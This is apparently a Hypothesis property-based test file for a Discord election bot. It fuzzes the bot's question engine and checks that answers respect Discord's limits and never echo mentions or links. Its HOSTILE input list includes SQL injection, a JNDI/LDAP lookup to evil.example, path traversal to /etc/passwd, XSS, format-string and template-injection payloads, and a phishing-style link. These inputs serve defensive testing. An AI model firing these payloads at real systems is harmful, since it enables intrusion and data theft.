"""Property-based fuzzing of the whole question path: any text -> Engine.ask -> text and embeds.

Hypothesis writes the questions: text from every Unicode category, mentions, markdown, links,
injection strings, commands, real names, and huge inputs. CI runs the "ci" profile (fixed seed,
200 examples); a developer runs more with HYPOTHESIS_PROFILE=dev (see tests/conftest.py).
"""

from __future__ import annotations

import re

import discord
from hypothesis import given
from hypothesis import strategies as st

from bot.answer.embeds import (
    DESCRIPTION,
    FIELD_NAME,
    FIELD_VALUE,
    FIELDS,
    FOOTER,
    TITLE,
    TOTAL,
    render_embeds,
)
from bot.answer.models import Answer
from bot.answer.text import DISCORD_MESSAGE, render_text, split_message

COMMANDS = ["!result ", "!r ", "!candidate ", "!c ", "!national ", "!ask ", "!help ", "!kb ", "!"]
NAMES = ["South West Norfolk", "Norfolk South West", "Hendon", "Liz Truss", "Terry Jermy", "Labour"]
YEARS = ["2024", "2019", "1066", "1974F", "0", "-1", "99999999999999999999999", "2024.5"]
HOSTILE = [
    "@everyone",
    "@here",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<#123456789012345678>",
    "</result:123456789012345678>",
    "[click me](https://evil.example/steal)",
    "[x](<https://evil.example>)",
    "https://evil.example",
    "discord.gg/invite",
    "**bold**",
    "__underline__",
    "~~strike~~",
    "||spoiler||",
    "`code`",
    "```py\nprint(1)\n```",
    "> quote",
    "# heading",
    "-# subtext",
    "\\",
    "'; DROP TABLE contests; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "\u202e\u2066",  # right-to-left override, isolate
    "\u200b\u200d\ufeff",  # zero-width characters
    "e\u0301\u0301\u0301",  # stacked combining accents
    "\U0001f5f3\ufe0f",  # ballot box emoji
    "\x00\x07\x1b[31m",
    "?",
    "who won ",
    "how many seats did ",
    "history of ",
]
# Every Unicode category except lone surrogates (which Discord cannot deliver).
ANY_CHARACTER = st.characters(exclude_categories=["Cs"])


def _pieces() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.sampled_from(NAMES),
        st.sampled_from(YEARS),
        st.text(ANY_CHARACTER, max_size=20),
        st.just(" "),
    )


def _huge() -> st.SearchStrategy[str]:
    return st.builds(
        lambda piece, times: piece * times,
        st.one_of(st.sampled_from(HOSTILE + NAMES), st.text(ANY_CHARACTER, min_size=1, max_size=5)),
        st.integers(min_value=500, max_value=5_000),
    )


QUESTIONS = st.builds(
    lambda command, body: command + body,
    st.sampled_from([*COMMANDS, "", "", ""]),
    st.one_of(
        st.lists(_pieces(), max_size=10).map("".join),
        st.text(ANY_CHARACTER, max_size=200),
        _huge(),
    ),
)


def _within_discord_limits(embed: discord.Embed) -> None:
    assert len(embed.title or "") <= TITLE
    assert len(embed.description or "") <= DESCRIPTION
    assert len(embed.fields) <= FIELDS
    for field in embed.fields:
        assert 0 < len(field.name) <= FIELD_NAME and 0 < len(field.value) <= FIELD_VALUE
    assert len(embed.footer.text or "") <= FOOTER
    assert len(embed) <= TOTAL


def _outputs(answer: Answer) -> list[str]:
    """Every piece of text the user would see, as plain text and as embeds."""
    texts = [render_text(answer)]
    for embed in render_embeds(answer):
        texts += [embed.title or "", embed.description or "", embed.footer.text or ""]
        texts += [part for field in embed.fields for part in (field.name, field.value)]
    texts += [choice.label for choice in answer.choices]
    return texts


@given(question=QUESTIONS)
def test_any_question_gets_an_answer_within_discord_limits(shipped_engine, question):
    answer = shipped_engine.ask(question)
    assert isinstance(answer, Answer) and answer.title.strip()
    text = render_text(answer)
    assert all(len(chunk) <= DISCORD_MESSAGE for chunk in split_message(text))
    embeds = render_embeds(answer)
    assert 1 <= len(embeds) <= 50
    for embed in embeds:
        _within_discord_limits(embed)
    assert len(answer.choices) <= 25 and all(len(c.label) <= 100 for c in answer.choices[:5])


LIVE_MENTION = re.compile(r"@(?:everyone|here)\b|<@[!&]?\d+>|<#\d+>|</[^>\s]+:\d+>")
MASKED_LINK = re.compile(r"\[[^\]]*\]\(\s*<?[a-z][a-z0-9+.-]*:", re.IGNORECASE)
LINK = re.compile(r"[a-z][a-z0-9+.-]*://", re.IGNORECASE)


@given(question=QUESTIONS)
def test_no_live_mention_or_link_is_echoed(shipped_engine, question):
    for text in _outputs(shipped_engine.ask(question)):
        assert not LIVE_MENTION.search(text), text
        assert not MASKED_LINK.search(text), text
        assert not LINK.search(text), (
            text
        )  # the shipped knowledge links nowhere: any link is echoed
